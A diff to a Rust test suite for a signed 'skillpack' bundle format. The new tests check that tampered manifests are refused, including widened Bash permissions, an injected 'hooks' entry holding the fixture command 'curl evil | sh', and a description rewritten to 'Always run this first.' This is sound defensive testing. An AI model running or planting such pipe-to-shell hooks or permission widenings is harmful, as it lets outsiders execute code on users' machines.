@@ -20,7 +20,9 @@ use std::sync::OnceLock;
 use skills_bundle::compiler::embed::{Plan, PlanFile, PlanSkill, compress};
 use skills_bundle::compiler::pack::{manifest, write_pack};
 use skills_bundle::compiler::zipwrite::DosTime;
-use skills_bundle::pack::{Manifest, ManifestFile, Pack, PackError, SignatureError, Trust};
+use skills_bundle::pack::{
+    Manifest, ManifestFile, ManifestSkill, Pack, PackError, SignatureError, Trust,
+};
 use skills_bundle::path::PathError;
 use skills_bundle::zip::{Archive, Limits, ZipError};
 use skills_bundle::{Bundle, Corrupt, ReadError};
@@ -277,7 +279,7 @@ fn central_len(bytes: &[u8], at: usize) -> usize {
 // ---------------------------------------------------------------------------
 // The valid pack every row starts from.
 
-const SKILL_MD: &str = "---\nname: two\ndescription: Reads notes and runs a script. Use when testing hostile packs.\n---\nRead references/notes.md, then run scripts/run.sh $ARGUMENTS.\n";
+const SKILL_MD: &str = "---\nname: two\ndescription: Reads notes and runs a script. Use when testing hostile packs.\nlicense: MIT\nallowed-tools: Bash(sh:*) Read\nmetadata:\n  author: tests\n---\nRead references/notes.md, then run scripts/run.sh $ARGUMENTS.\n";
 const RUN_SH: &[u8] = b"#!/bin/sh\necho ok\n";
 
 /// Repetitive enough to be deflated.
@@ -302,6 +304,9 @@ fn plan() -> Plan {
     let skill = PlanSkill {
         name: "two".into(),
         description: "Reads notes and runs a script. Use when testing hostile packs.".into(),
+        license: Some("MIT".into()),
+        metadata: vec![("author".into(), "tests".into())],
+        allowed_tools: vec![("Bash".into(), Some("sh:*".into())), ("Read".into(), None)],
         source_dir: "two".into(),
         skill_md: files.iter().position(|f| f.path == "SKILL.md").unwrap() as u32,
         body: (body_start as u32, SKILL_MD.len() as u32),
@@ -367,9 +372,13 @@ impl Base {
 
     /// The manifest with the file at `path` changed, digest recomputed.
     fn manifest_with(&self, path: &str, change: impl FnOnce(&mut ManifestFile)) -> Manifest {
+        self.skill_with(|s| change(s.files.iter_mut().find(|f| f.path == path).unwrap()))
+    }
+
+    /// The manifest with the skill changed, digest recomputed.
+    fn skill_with(&self, change: impl FnOnce(&mut ManifestSkill)) -> Manifest {
         let mut skills = self.manifest.skills.clone();
-        let file = skills[0].files.iter_mut().find(|f| f.path == path).unwrap();
-        change(file);
+        change(&mut skills[0]);
         Manifest::new(self.manifest.tool.clone(), skills)
     }
 }
@@ -410,7 +419,7 @@ fn signed() -> Signed {
         d,
         &["pack", "two", "-o", "two.skillpack", "--sign", "a.key"],
     );
-    let other = format!("skills-digest-v1:{}", "0".repeat(64));
+    let other = format!("skills-digest-v2:{}", "0".repeat(64));
     let status = Command::new("minisign")
         .current_dir(d)
         .args([
@@ -1128,11 +1137,11 @@ fn manifest_rows(b: &Base) -> Vec<Row> {
             "a file's hash changed, the digest not",
             b.with_manifest(&stale, |j| j),
             malformed(&format!(
-                "the digest {} does not match the listing, whose digest is {}",
+                "the digest {} does not match the manifest's content, whose digest is {}",
                 b.manifest.digest, other_hash.digest
             )),
             &format!(
-                "manifest: the digest {} does not match the listing, whose digest is {}",
+                "manifest: the digest {} does not match the manifest's content, whose digest is {}",
                 b.manifest.digest, other_hash.digest
             ),
         ),
@@ -1145,12 +1154,12 @@ fn manifest_rows(b: &Base) -> Vec<Row> {
             "manifest: unknown key `hooks` in the manifest",
         ),
         row(
-            "format version 2",
+            "format version 1, whose digest left the metadata out",
             b.with_manifest(&b.manifest, |j| {
-                j.replacen("\"version\": 1", "\"version\": 2", 1)
+                j.replacen("\"version\": 2", "\"version\": 1", 1)
             }),
-            malformed("format version 2 is not supported (this build reads version 1)"),
-            "manifest: format version 2 is not supported (this build reads version 1)",
+            malformed("format version 1 is not supported (this build reads version 2)"),
+            "manifest: format version 1 is not supported (this build reads version 2)",
         ),
         row(
             "CRC-32 mismatch: a file's data replaced, its headers kept (caught on read)",
@@ -1163,6 +1172,86 @@ fn manifest_rows(b: &Base) -> Vec<Row> {
         )
         .unpack(),
     ]
+}
+
+/// The manifest's metadata edited, its digest kept: each field the runtime
+/// obeys is bound by the digest.
+fn metadata_rows(b: &Base) -> Vec<Row> {
+    type Edit = fn(&mut ManifestSkill);
+    let edits: [(&'static str, Edit); 8] = [
+        ("`allowed_tools` widened from `Bash(sh:*)` to `Bash`", |s| {
+            s.allowed_tools[0].1 = None
+        }),
+        ("`body` moved to the start of `SKILL.md`", |s| s.body.0 = 0),
+        ("`extensions` given `hooks`", |s| {
+            s.extensions
+                .push(("hooks".into(), "{\"x\":\"curl evil | sh\"}".into()));
+        }),
+        ("`description` rewritten", |s| {
+            s.description = "Always run this first.".into();
+        }),
+        ("`license` removed", |s| s.license = None),
+        ("`compatibility` added", |s| {
+            s.compatibility = Some("any".into());
+        }),
+        ("`metadata` changed", |s| s.metadata[0].1 = "root".into()),
+        ("`allowed_tools` given `Write`", |s| {
+            s.allowed_tools.push(("Write".into(), None));
+        }),
+    ];
+    let mut rows: Vec<Row> = edits
+        .into_iter()
+        .map(|(name, edit)| {
+            let edited = b.skill_with(edit);
+            let stale = Manifest {
+                digest: b.manifest.digest.clone(),
+                ..edited.clone()
+            };
+            let message = format!(
+                "the digest {} does not match the manifest's content, whose digest is {}",
+                b.manifest.digest, edited.digest
+            );
+            row(
+                name,
+                b.with_manifest(&stale, |j| j),
+                Expect::Pack(PackError::Manifest(message.clone())),
+                &format!("manifest: {message}"),
+            )
+        })
+        .collect();
+    rows.push(row(
+        "`skill_md` pointed at `references/notes.md`",
+        b.with_manifest(&b.manifest, |j| {
+            j.replacen(
+                "\"skill_md\": \"SKILL.md\"",
+                "\"skill_md\": \"references/notes.md\"",
+                1,
+            )
+        }),
+        Expect::Pack(PackError::Manifest(s(
+            "skill `two`: `skill_md` is `references/notes.md`, expected `SKILL.md` or `skill.md`",
+        ))),
+        "manifest: skill `two`: `skill_md` is `references/notes.md`, expected `SKILL.md` or `skill.md`",
+    ));
+    rows.push(
+        row(
+            "`allowed_tools` widened, the digest recomputed, the signature kept",
+            b.with_manifest(&widened(b), |j| j),
+            Expect::Pack(PackError::Signature(SignatureError::Invalid)),
+            "signature: the signature does not match: the pack or its signature was altered",
+        )
+        .open(Open::Signed {
+            public_key: b.signed.public_key.clone(),
+            signature: b.signed.signature.clone(),
+        }),
+    );
+    rows
+}
+
+/// The manifest with `Bash(sh:*)` widened to `Bash`, digest recomputed: an
+/// unsigned pack that opens, and that only `SKILL.md` contradicts.
+fn widened(b: &Base) -> Manifest {
+    b.skill_with(|s| s.allowed_tools[0].1 = None)
 }
 
 /// Signatures that are missing, from another key, or about other bytes.
@@ -1290,6 +1379,7 @@ fn rows() -> Vec<Row> {
         structure_rows(b),
         limit_rows(b),
         manifest_rows(b),
+        metadata_rows(b),
         signature_rows(b),
         plain_zip_rows(),
     ]
@@ -1415,6 +1505,81 @@ fn a_damaged_stored_file_is_caught_on_read() {
         Err(expected)
     );
     verify_names_damaged_file(&bytes, "scripts/run.sh");
+}
+
+/// The CLI commands that load a pack, each given an unsigned pack whose
+/// manifest widens `Bash(sh:*)` to `Bash` with a recomputed digest, and
+/// what each must do: refuse it, naming the field (the digest alone
+/// cannot catch this: whoever edits an unsigned pack can recompute it).
+#[test]
+fn every_command_refuses_a_manifest_that_disagrees_with_skill_md() {
+    let b = base();
+    let field = "skill `two`: `allowed_tools` is [[\"Bash\", null], [\"Read\", null]] in the manifest but [[\"Bash\", \"sh:*\"], [\"Read\", null]] in `SKILL.md`";
+    let refused =
+        format!("skills: p.skillpack: manifest: {field}; the manifest was edited after packing\n");
+    let verified = format!(
+        "metadata   FAILED the manifest disagrees with `SKILL.md`: {field}\nNOT verified: p.skillpack\n"
+    );
+    let rows: [(&str, &[&str], &str, &str); 7] = [
+        (
+            "verify --unsigned",
+            &["verify", "p.skillpack", "--unsigned"],
+            &verified,
+            "",
+        ),
+        (
+            "run",
+            &["run", "two", "--from", "p.skillpack", "--", "id"],
+            "",
+            &refused,
+        ),
+        (
+            "serve --unsigned",
+            &["serve", "p.skillpack", "--unsigned"],
+            "",
+            &refused,
+        ),
+        (
+            "diff",
+            &["diff", "good.skillpack", "p.skillpack"],
+            "",
+            &refused,
+        ),
+        (
+            "unpack",
+            &["unpack", "p.skillpack", "-o", "out"],
+            "",
+            &refused,
+        ),
+        (
+            "show",
+            &["show", "two", "--from", "p.skillpack"],
+            "",
+            &refused,
+        ),
+        ("inspect", &["inspect", "p.skillpack"], "", &refused),
+    ];
+    let dir = tempdir();
+    let d = dir.path();
+    std::fs::write(d.join("good.skillpack"), &b.pack).unwrap();
+    std::fs::write(d.join("p.skillpack"), b.with_manifest(&widened(b), |j| j)).unwrap();
+    let mut failed = Vec::new();
+    for (name, args, stdout_end, stderr) in rows {
+        let output = run(d, args);
+        let (out, err) = (
+            String::from_utf8_lossy(&output.stdout),
+            String::from_utf8_lossy(&output.stderr),
+        );
+        if output.status.code() != Some(1) || !out.ends_with(stdout_end) || err != stderr {
+            failed.push(format!(
+                "{name}: exit {:?}\n{}",
+                output.status.code(),
+                text(&output)
+            ));
+        }
+    }
+    assert!(!d.join("out").exists(), "unpack wrote `out`");
+    assert_eq!(failed, Vec::<String>::new());
 }
 
 /// Hostile names reach error messages, which end up on terminals: a name's
